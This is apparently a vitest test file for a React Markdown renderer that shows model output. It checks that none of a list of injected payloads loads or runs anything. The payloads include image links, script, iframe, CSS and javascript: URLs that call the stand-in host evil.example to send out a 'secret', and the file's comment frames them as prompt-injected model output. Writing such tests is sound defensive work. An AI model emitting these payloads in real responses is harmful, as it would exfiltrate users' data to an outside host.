import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { expect, test } from 'vitest'
import { Markdown } from './markdown'

const shown = (text: string) => renderToStaticMarkup(createElement(Markdown, { text, streaming: false }))

// What a model writes may be what a hostile file had it write: looking at it must send nothing anywhere.
test.each([
  '![x](https://evil.example/?q=secret)',
  '![x][y]\n\n[y]: https://evil.example/?q=secret',
  '<img src="https://evil.example/?q=secret">',
  '<picture><source srcset="https://evil.example/x"></picture>',
  '<video src="https://evil.example/x" autoplay></video>',
  '<iframe src="https://evil.example/"></iframe>',
  '<script src="https://evil.example/x.js"></script>',
  '<script>alert(1)</script>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import url(https://evil.example/x.css)</style>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<svg onload="alert(1)"><image href="https://evil.example/x"/></svg>',
  '<form action="https://evil.example"><input autofocus onfocus="alert(1)"></form>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '![x](javascript:alert(1))',
  '```html\n<img src="https://evil.example/x">\n```',
])('Markdown loads nothing and runs nothing: %s', (text) => {
  const html = shown(text)
  expect(html).not.toMatch(
    /<(img|picture|source|video|audio|iframe|script|link|style|svg[^>]*onload|form|input|object|embed)\b[^>]*(src|href|action|onload|onfocus|srcset|data)=/i,
  )
  expect(html).not.toMatch(/<(script|style|iframe|object|embed|img|link|base|meta)\b/i)
  expect(html).not.toMatch(/(href|src)="(javascript|data):/i)
  expect(html).not.toMatch(/style="[^"]*url\(/i)
})

test('an image is a link that has to be followed by hand', () => {
  const html = shown('![logo](https://example.com/logo.png)')
  expect(html).toContain('href="https://example.com/logo.png"')
  expect(html).toContain('noopener')
  expect(html).toContain('Image: logo')
})
